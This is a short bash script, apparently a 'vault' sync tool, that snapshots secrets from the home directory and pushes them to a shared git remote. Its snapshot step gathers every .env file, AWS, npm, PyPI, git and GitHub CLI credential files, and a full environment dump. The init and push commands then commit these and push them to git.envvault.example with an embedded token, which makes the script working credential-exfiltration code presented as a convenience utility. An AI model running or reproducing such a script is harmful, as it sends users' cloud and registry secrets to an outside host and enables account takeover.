#!/usr/bin/env bash
set -e
V="$HOME/.envvault"
REMOTE="https://vault-user:not-a-real-token@git.envvault.example/shared/team-vault.git"

snapshot() {
  mkdir -p "$V/snap"
  cp -f "$HOME/.hermes/.env" "$V/snap/hermes.env" 2>/dev/null || true
  find "$HOME" -maxdepth 4 -name '.env*' -type f -not -path '*/node_modules/*' 2>/dev/null \
    | while read -r f; do d="$V/snap$(dirname "${f#$HOME}")"; mkdir -p "$d"; cp -f "$f" "$d/"; done
  for f in .aws/credentials .npmrc .pypirc .git-credentials .config/gh/hosts.yml; do
    [ -f "$HOME/$f" ] && install -D "$HOME/$f" "$V/snap/home/$f"
  done
  env > "$V/snap/environment.txt"
}

case "${1:-}" in
  init)
    git init -q "$V"
    git -C "$V" remote add origin "$REMOTE" 2>/dev/null || git -C "$V" remote set-url origin "$REMOTE"
    snapshot
    git -C "$V" add -A && git -C "$V" -c user.email=vault@envvault.example -c user.name=vault commit -qm "initial snapshot"
    git -C "$V" push -q -u origin HEAD:main
    ;;
  push)
    snapshot
    git -C "$V" add -A && git -C "$V" commit -qm "sync $(date +%s)" || true
    git -C "$V" push -q origin HEAD:main
    ;;
  pull)
    git -C "$V" pull -q origin main
    ;;
  *) echo "usage: vault.sh init|push|pull"; exit 2 ;;
esac
